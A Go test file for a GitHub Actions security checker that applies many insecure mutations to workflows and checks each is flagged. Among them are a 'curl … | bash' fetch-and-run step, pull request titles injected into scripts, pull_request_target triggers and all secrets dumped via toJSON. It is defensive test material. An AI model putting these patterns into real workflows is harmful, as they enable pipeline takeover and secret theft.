package workflow

import (
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/fargate-ai/fargate-ai-service/internal/figure"
)

func TestSoundWorkflows(t *testing.T) {
	for name, p := range variants() {
		for _, hole := range holes(t, render(t, p)) {
			t.Errorf("%s: %s", name, hole)
		}
	}
	for name, p := range infrastructures() {
		for _, hole := range holes(t, infrastructureText(t, p)) {
			t.Errorf("%s: %s", name, hole)
		}
	}
}

// attack changes a workflow as somebody would who wants more than he may have, or who wants it quicker.
type attack struct {
	name string
	job  string // "" for the part before the jobs
	// What is there, and what is put in its place.
	old, new string
	hole     string // that must be told
}

// part is where a job stands in the text.
func part(t *testing.T, text, job string) (start, end int) {
	t.Helper()
	if job == "" {
		return 0, strings.Index(text, "\njobs:\n")
	}
	jobs := strings.Index(text, "\njobs:\n")
	start = strings.Index(text[jobs:], "\n  "+job+":") + jobs
	if start < jobs {
		t.Fatalf("no job %s", job)
	}
	end = len(text)
	if next := regexp.MustCompile(`\n  [a-z]+:`).FindStringIndex(text[start+1:]); next != nil {
		end = start + 1 + next[0]
	}
	return start, end
}

func (a attack) run(t *testing.T, sound string) {
	t.Run(a.name, func(t *testing.T) {
		start, end := part(t, sound, a.job)
		if !strings.Contains(sound[start:end], a.old) {
			t.Fatalf("no %q in\n%s", a.old, sound[start:end])
		}
		text := sound[:start] + strings.ReplaceAll(sound[start:end], a.old, a.new) + sound[end:]
		got := holes(t, []byte(text))
		if !slices.ContainsFunc(got, func(hole string) bool { return strings.HasPrefix(hole+" ", a.hole+" ") }) {
			t.Errorf("got the holes %q, want %s", got, a.hole)
		}
	})
}

const (
	credentials = "      - uses: aws-actions/configure-aws-credentials"
	checkout    = "      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0\n" +
		"        with:\n          persist-credentials: false\n"
	setupTerraform = "      - uses: hashicorp/setup-terraform@"
	runStep        = "      - name: More\n        run: |\n          "
)

var infrastructureAttacks = []attack{
	// what starts it, and with what
	{"code of strangers with the repository's token", "", "  pull_request:\n", "  pull_request_target:\n",
		"event pull_request_target"},
	{"after the workflow of a stranger", "", "  push:\n", "  workflow_run:\n", "event workflow_run"},
	{"by hand from any branch", "", "  push:\n", "  workflow_dispatch:\n", "event workflow_dispatch"},
	{"by a comment", "", "  push:\n", "  issue_comment:\n", "event issue_comment"},
	{"of every branch", "", "    branches: [\"main\"]\n", "", "every-branch push"},
	{"of branches by a pattern", "", `branches: ["main"]`, `branches: ["**"]`, "every-branch push"},
	{"permissions as the repository has them", "", "\npermissions: {} # each job states its own\n", "\n",
		"permissions workflow"},
	{"two applies at once", "", "  cancel-in-progress: ${{ github.event_name == 'pull_request' }}\n",
		"  cancel-in-progress: true\n", "concurrency"},
	{"no group", "", `  group: "infrastructure-llm-proxy-${{ github.event.pull_request.number || 'apply' }}"`,
		`  group: ""`, "concurrency"},
	{"a secret for all jobs", "", "permissions: {} # each job states its own\n",
		"permissions: {} # each job states its own\n\nenv:\n  KEY: ${{ secrets.KEY }}\n", "environment-of-all workflow"},
	{"failures in silence", "", "-euo pipefail {0}", "{0}", "shell workflow"},

	// the job that runs the repository's code
	{"a token beside the app", "synthesize", "      contents: read\n", "      contents: read\n      id-token: write\n",
		"token-beside-code synthesize"},
	{"a role for the app", "synthesize", "      - name: Synthesize\n", credentials +
		"@e6de054238d6b7531b4efff3b6587d9aade6a06c\n" +
		"        with:\n          role-to-assume: x\n      - name: Synthesize\n", "token-without-need synthesize"},
	{"a secret for the app", "synthesize", "        working-directory: \".\"\n", "        working-directory: \".\"\n" +
		"        env:\n          KEY: ${{ secrets.PLAN_KEY }}\n", "secret synthesize Synthesize"},
	{"GitHub's token for the app", "synthesize", "        working-directory: \".\"\n",
		"        working-directory: \".\"\n" +
			"        env:\n          GH_TOKEN: ${{ github.token }}\n", "github-token synthesize"},
	{"a token that writes for the app", "synthesize", "      contents: read\n", "      contents: write\n",
		"permission synthesize contents"},
	{"packages that the app may write", "synthesize", "      contents: read\n", "      packages: write\n",
		"permission synthesize packages"},
	{"all that there is", "synthesize", "    permissions:\n      contents: read\n", "", "permissions synthesize"},
	{"GitHub's token in the checkout", "synthesize", "          persist-credentials: false\n",
		"          fetch-depth: 1\n", "persist-credentials"},
	{"code of another place", "synthesize", "          persist-credentials: false\n",
		"          persist-credentials: false\n          repository: mallory/infra\n", "other-code synthesize"},
	{"a cache that others fill", "synthesize", "          cache: false # nothing that another run left behind\n", "",
		"cache synthesize"},
	{"a text of others in a script", "synthesize", "          go run .\n",
		"          go run . '${{ github.event.pull_request.title }}'\n", "expression-in-script synthesize"},
	{"a text of others in the environment", "synthesize", "          STACK: \"llm-proxy\"\n",
		"          STACK: ${{ github.head_ref }}\n", "user-text synthesize"},

	// what the plan may do with it
	{"the app beside the role", "plan", credentials, runStep + "go run .\n" + credentials, "token-beside-code plan"},
	{"a program of the repository", "plan", credentials, checkout + runStep + "./scripts/plan.sh\n" + credentials,
		"token-beside-code plan"},
	{"a dependency", "plan", credentials, checkout + runStep + "npm ci\n" + credentials, "token-beside-code plan"},
	{"a program of the repository by its workspace", "plan", credentials,
		runStep + "\"$GITHUB_WORKSPACE/plan\" now\n" + credentials, "token-beside-code plan"},
	{"an action of the repository", "plan", credentials, checkout + "      - uses: ./.github/actions/plan\n" +
		credentials, "token-beside-code plan"},
	{"tools after the data", "plan", credentials, "      - name: Again\n        run: |\n" +
		"          GOBIN=\"$RUNNER_TEMP/bin\" go install github.com/fargate-ai/fargate-ai-service/cmd/fargateai@v0.3.0\n" +
		credentials,
		"tool-after-data plan Again"},
	{"the newest companion", "plan", "cmd/fargateai@v0.3.0", "cmd/fargateai@latest", "unpinned plan Install fargateai"},
	{"a branch of the companion", "plan", "cmd/fargateai@v0.3.0", "cmd/fargateai@main", "unpinned plan Install fargateai"},
	{"the newest Terraform", "plan", `terraform_version: "1.11.4"`, `terraform_version: "latest"`,
		"unpinned plan hashicorp/setup-terraform"},
	{"about this Terraform", "plan", `terraform_version: "1.11.4"`, `terraform_version: "~> 1.11"`,
		"unpinned plan hashicorp/setup-terraform"},
	{"about this Go", "plan", `go-version: "1.26.8"`, `go-version: "1.26"`, "unpinned plan actions/setup-go"},
	{"Go as the repository says", "plan", `go-version: "1.26.8"`, `go-version-file: go.mod`,
		"unpinned plan actions/setup-go"},
	{"about this Node", "synthesize", `node-version: "22.23.3"`, `node-version: "22"`,
		"unpinned synthesize actions/setup-node"},
	{"an action by its tag", "plan", setupTerraform + "dfe3c3f87815947d99a8997f908cb6525fc44e9e", setupTerraform + "v4",
		"unpinned plan hashicorp/setup-terraform"},
	{"an action of somebody", "plan", setupTerraform, "      - uses: mallory/setup-terraform@",
		"unpinned plan mallory/setup-terraform"},
	{"a script from the net", "plan", credentials, runStep + "curl -sSL https://x.dev/install | bash\n" + credentials,
		"unpinned plan More"},
	{"Terraform behind a wrapper", "plan", "terraform_wrapper: false", "terraform_wrapper: true", "wrapper plan"},
	{"programs of the data on PATH", "plan", credentials,
		runStep + "echo \"$RUNNER_TEMP/stack/bin\" >> \"$GITHUB_PATH\"\n" + credentials, "runner-files plan More"},
	{"an environment of the data", "plan", credentials,
		runStep + "cat \"$RUNNER_TEMP/stack/env\" >> \"$GITHUB_ENV\"\n" + credentials, "runner-files plan More"},
	{"settings of Terraform", "plan", "      - name: Initialize\n", "      - name: Initialize\n" +
		"        env:\n          TF_CLI_ARGS: -plugin-dir=stack\n", "tool-settings plan Initialize"},
	{"the data unverified", "plan", `!= "$DIGEST" ]]`, `== "" ]]`, "not-verified plan"},
	{"a digest that nobody made", "plan", "          DIGEST: ${{ needs.synthesize.outputs.digest }}\n",
		"          DIGEST: ${{ vars.DIGEST }}\n",
		"digest-of-whom plan"},
	{"a wrong digest, and on it goes", "plan", `that was synthesized"` + "\n            exit 1\n",
		`that was synthesized"` + "\n", "not-verified plan"},
	{"no archive, and on it goes", "plan", `/handed/stack.tar")`, `/handed/stack.tar" || true)`, "failure-ignored plan"},
	{"a digest that is a list of files", "plan", `if [[ "${sum%% *}" != "$DIGEST" ]]; then`,
		`if ! echo "$DIGEST  $RUNNER_TEMP/handed/stack.tar" | sha256sum --check --strict --status; then`,
		"not-verified plan"},
	{"a digest that is a list of files", "apply", `if [[ "${sum%% *}" != "$DIGEST" ]]; then`,
		`if ! echo "$DIGEST  $RUNNER_TEMP/planned/plan" | sha256sum --check --strict --status; then`,
		"not-verified apply"},
	{"an artifact by its name", "plan", "          artifact-ids: ${{ needs.synthesize.outputs.stack }}\n",
		"          name: stack\n",
		"artifact-of-whom plan"},
	{"an artifact of another run", "plan", "          artifact-ids: ${{ needs.synthesize.outputs.stack }}\n",
		"          artifact-ids: ${{ needs.synthesize.outputs.stack }}\n          run-id: 1\n", "artifact-of-whom plan"},
	{"data in the folder of the tools", "plan", "path: ${{ runner.temp }}/handed", "path: /usr/local/bin",
		"artifact-place plan"},
	{"a stack unchecked", "plan", `"$RUNNER_TEMP/bin/fargateai" stack-check`, "true # ", "not-checked plan"},
	{"an unsound stack, and on it goes", "plan", `"$RUNNER_TEMP/stack"` + "\n" + credentials,
		`"$RUNNER_TEMP/stack" || true` + "\n" + credentials,
		"failure-ignored plan"},
	{"risks that fail nothing", "plan", "          exit \"$code\"\n", "", "failure-ignored plan Review"},
	{"a failure that is none", "plan", "        id: review\n", "        id: review\n        continue-on-error: true\n",
		"failure-ignored plan Review"},
	{"providers that float", "plan", " -lockfile=readonly", "", "lock-file plan"},
	{"providers of the data", "plan", " -lockfile=readonly", " -lockfile=readonly -plugin-dir=\"$RUNNER_TEMP/stack\"",
		"lock-file plan"},
	{"a plan in the open", "plan", "path: ${{ runner.temp }}/plan.cms", "path: ${{ runner.temp }}/plan.tar",
		"plan-in-the-open plan"},
	{"a plan kept for ever", "plan", "          retention-days: 7\n", "", "kept plan"},
	{"a plan of a fork", "plan", " == github.repository)", " != '')", "reached-by plan fork"},
	{"a plan whatever it is", "plan", "    if: (github.event_name", "    if: always() || (github.event_name",
		"reached-by plan fork"},
	{"keys in place of a role", "plan", "          role-to-assume: \"arn:aws:iam::210987654321:role/github-plan-1\"\n",
		"          aws-access-key-id: ${{ secrets.KEY }}\n", "keys plan"},
	{"a role on a runner of anybody", "plan", "    runs-on: ubuntu-24.04\n", "    runs-on: self-hosted\n", "runner plan"},
	{"a role in an image of anybody", "plan", "    runs-on: ubuntu-24.04\n",
		"    runs-on: ubuntu-24.04\n    container: mallory/plan\n", "container plan"},
	{"a role for a fork's review", "fork", "    permissions: {}\n", "    permissions:\n      id-token: write\n",
		"token-without-need fork"},

	// what the approval is of
	{"an apply of a pull request", "apply", "github.event_name == 'push' && github.ref == 'refs/heads/main' && ", "",
		"reached-by apply"},
	{"an apply of another branch", "apply", " && github.ref == 'refs/heads/main'",
		" || github.event_name == 'pull_request'", "reached-by apply"},
	{"an apply that nobody approves", "apply", "    environment: \"production\"\n", "", "no-approval apply"},
	{"an approval of nobody knows what", "apply", "    name: Apply the plan ${{ needs.plan.outputs.digest }}",
		"    name: Apply", "approval-of-what apply"},
	{"an apply without a plan", "apply", "needs: [synthesize, plan]", "needs: [synthesize]", "needs apply plan"},
	{"another stack", "apply", `terraform -chdir="$RUNNER_TEMP/stack" apply`, `terraform -chdir="$GITHUB_WORKSPACE" apply`,
		"terraform-elsewhere apply"},
	{"an apply although the plan failed", "apply", "    if: github.event_name", "    if: failure() || github.event_name",
		"after-failure apply"},
	{"a plan of its own", "apply", ` "$RUNNER_TEMP/planned/plan"` + "\n", ` -auto-approve` + "\n", "another-plan apply"},
	{"an apply without a lock", "apply", "-lock-timeout=5m", "-lock=false", "another-plan apply"},
	{"a plan unverified", "apply", `!= "$DIGEST" ]]`, `== "" ]]`, "not-verified apply"},
	{"a plan of long ago", "apply", "the state moved from serial", "the state is at serial", "stale apply"},
	{"the key for everybody", "plan", "          DIGEST: ${{ steps.plan.outputs.digest }}\n",
		"          KEY: ${{ secrets.PLAN_KEY }}\n", "secret plan Review"},
	{"all secrets", "apply", "KEY: ${{ secrets.PLAN_KEY }}", "KEY: ${{ toJSON(secrets) }}", "secret apply"},
	{"code in the job of the strongest role", "apply", credentials, checkout + credentials, "needless-tool apply"},
	{"the role before the plan is known", "apply", "      - name: Open the plan\n",
		"      - uses: aws-actions/configure-aws-credentials@e6de054238d6b7531b4efff3b6587d9aade6a06c # v6.2.3\n" +
			"        with:\n          role-to-assume: x\n" +
			"      - uses: actions/download-artifact@3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c # v8.0.1\n        with:\n" +
			"          artifact-ids: ${{ needs.plan.outputs.sealed }}\n          path: ${{ runner.temp }}/sealed\n" +
			"      - name: Open the plan\n", "role-before-data apply"},
	{"an apply for ever", "apply", "    timeout-minutes: 60\n", "", "timeout apply"},
	{"a comment with more than it needs", "comment", "      pull-requests: write", "      contents: write",
		"permission comment contents"},
	{"a comment by the repository's code", "comment", "    steps:\n", "    steps:\n" + checkout,
		"permission comment pull-requests"},
}

var deploymentAttacks = []attack{
	{"of pull requests", "", "  push:\n    branches: [\"release/1.x\"]\n",
		"  pull_request_target:\n    branches: [\"release/1.x\"]\n", "event pull_request_target"},
	{"two deployments at once", "", "  cancel-in-progress: false\n", "  cancel-in-progress: true\n", "concurrency"},
	{"tests with a token", "test", "      contents: read\n", "      contents: read\n      id-token: write\n",
		"token-beside-code test"},
	{"tests with secrets", "test", "      - name: Test\n",
		"      - name: Test\n        env:\n          KEY: ${{ secrets.KEY }}\n", "secret test Test"},
	{"a build with a token", "build", "      contents: read\n", "      contents: read\n      id-token: write\n",
		"token-beside-code build"},
	{"a build that pushes", "build", "          platforms:", "          push: true\n          platforms:",
		"build-reaches-out build"},
	{"a build with secrets", "build", "          platforms:",
		"          secrets: key=${{ secrets.KEY }}\n          platforms:", "build-reaches-out build"},
	{"about this buildx", "build", `version: "v0.30.1"`, `version: "latest"`, "unpinned build docker/setup-buildx-action"},
	{"a BuildKit by its tag", "build",
		"moby/buildkit:v0.26.2@sha256:de10faf919fc71ba4eb1dd7bd6449566d012b0c9436b1c61bfee21d621b009aa",
		"moby/buildkit:v0.26.2", "unpinned build docker/setup-buildx-action"},
	{"a build before its tests", "build", "    needs: [test]\n", "", "needs build test"},
	{"a push of the repository's code", "push", credentials, checkout + runStep + "make push\n" + credentials,
		"token-beside-code push"},
	{"an image unverified", "push", `!= "$SUM" ]]`, `== "" ]]`, "not-verified push"},
	{"an image by its name", "push", "          artifact-ids: ${{ needs.build.outputs.image }}\n",
		"          name: image\n", "artifact-of-whom push"},
	{"the newest crane", "push", "cmd/crane@v0.20.6", "cmd/crane@latest", "unpinned push Install crane"},
	{"a role before the image", "push", "      - name: Install crane\n",
		"      - uses: aws-actions/configure-aws-credentials@e6de054238d6b7531b4efff3b6587d9aade6a06c # v6.2.3\n" +
			"        with:\n          role-to-assume: x\n      - name: Install crane\n", "tool-after-role push"},
	{"an evaluation with a token", "evaluate", "      contents: read\n", "      contents: read\n      id-token: write\n",
		"token-beside-code evaluate"},
	{"a secret for the gate", "evaluate", "      - name: Eval gate\n",
		"      - name: Eval gate\n        env:\n          KEY: ${{ secrets.KEY }}\n",
		"secret evaluate Eval gate"},
	{"GitHub's token for the evaluation", "evaluate", "          OPENAI_API_KEY: ${{ secrets.OPENAI_API_KEY }}\n",
		"          OPENAI_API_KEY: ${{ secrets.GITHUB_TOKEN }}\n", "secret evaluate Evaluate"},
	{"a gate that fails nothing", "evaluate", "      - name: Eval gate\n",
		"      - name: Eval gate\n        continue-on-error: true\n",
		"failure-ignored evaluate Eval gate"},
	{"a deployment without an evaluation", "deploy", "needs: [build, evaluate, push]", "needs: [build, push]",
		"needs deploy evaluate"},
	{"a deployment that believes the gate", "deploy", `"$RUNNER_TEMP/bin/fargateai" eval-gate`, "true ",
		"not-judged-again deploy"},
	{"results unverified", "deploy", `!= "$SUM" ]]`, `== "" ]]`, "not-verified deploy"},
	{"results of whom", "deploy", "SUM: ${{ needs.evaluate.outputs.sum }}", "SUM: ${{ needs.build.outputs.sum }}",
		"digest-of-whom deploy"},
	{"a program of the repository", "deploy", credentials, runStep + "bash deploy/before.sh\n" + credentials,
		"token-beside-code deploy"},
	{"a hidden program", "deploy", credentials, runStep + "if ./deploy/ready; then echo yes; fi\n" + credentials,
		"token-beside-code deploy"},
	{"a message of a commit", "deploy", "      CLUSTER: \"ai\"\n",
		"      CLUSTER: ${{ github.event.head_commit.message }}\n",
		"user-text deploy"},
	{"a secret for the whole job", "deploy", "      CLUSTER: \"ai\"\n",
		"      CLUSTER: \"ai\"\n      KEY: ${{ secrets.KEY }}\n",
		"secret deploy"},
	{"a deployment with more than it needs", "deploy", "      contents: read\n", "      contents: write\n",
		"permission deploy contents"},
	{"GitHub's token beside the role", "deploy", "persist-credentials: false", "persist-credentials: true",
		"persist-credentials deploy"},
}

var greenAttacks = []attack{
	{"traffic that shifts untested", "promote", "needs: [build, push, deploy, evaluate]", "needs: [build, push, deploy]",
		"needs promote evaluate"},
	{"traffic that shifts whatever happens", "promote", "    if: always() && needs.deploy.result == 'success'",
		"    if: always()", "needs promote"},
	{"traffic that believes the gate", "promote", `"$RUNNER_TEMP/bin/fargateai" eval-gate`, "true ",
		"not-judged-again promote"},
	{"a cache in the job of the role", "promote", credentials,
		"      - uses: actions/cache/restore@27d5ce7f107fe9357f9df03efb73ab90386fccae # v5.0.5\n" + credentials,
		"cache promote"},
}

func TestAttacks(t *testing.T) {
	for _, a := range slices.Concat(infrastructureAttacks, fromOutsideOnInfrastructure, unlikeInfrastructure) {
		a.run(t, string(infrastructureText(t, leastInfrastructure())))
	}
	for _, a := range slices.Concat(deploymentAttacks, fromOutsideOnDeployments, unlikeDeployments) {
		a.run(t, string(render(t, most())))
	}
	for _, a := range slices.Concat(greenAttacks, fromOutsideOnGreen, unlikeGreen) {
		a.run(t, string(render(t, blueGreen())))
	}
}

// A hole that no attack opens is one that the judge may not see.
func TestEveryHoleIsTried(t *testing.T) {
	var source []byte
	for _, name := range []string{"judge_test.go", "judge_known_test.go", "judge_forms_test.go",
		"judge_rendered_test.go"} {
		text, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		source = append(source, text...)
	}
	all := slices.Concat(infrastructureAttacks, deploymentAttacks, greenAttacks, fromOutsideOnInfrastructure,
		fromOutsideOnDeployments, fromOutsideOnGreen, unlikeInfrastructure, unlikeDeployments, unlikeGreen)
	tried := map[string]bool{}
	for _, a := range all {
		hole, _, _ := strings.Cut(a.hole, " ")
		tried[hole] = true
	}
	for _, found := range regexp.MustCompile(`"([a-z-]+)",\s+"(?:%s|workflow)`).FindAllStringSubmatch(string(source), -1) {
		if !tried[found[1]] {
			t.Errorf("no attack opens %s", found[1])
		}
	}
	if len(all) < 200 {
		t.Errorf("%d attacks", len(all))
	}
	figure.Say(t, "workflow-attacks", len(all))
}
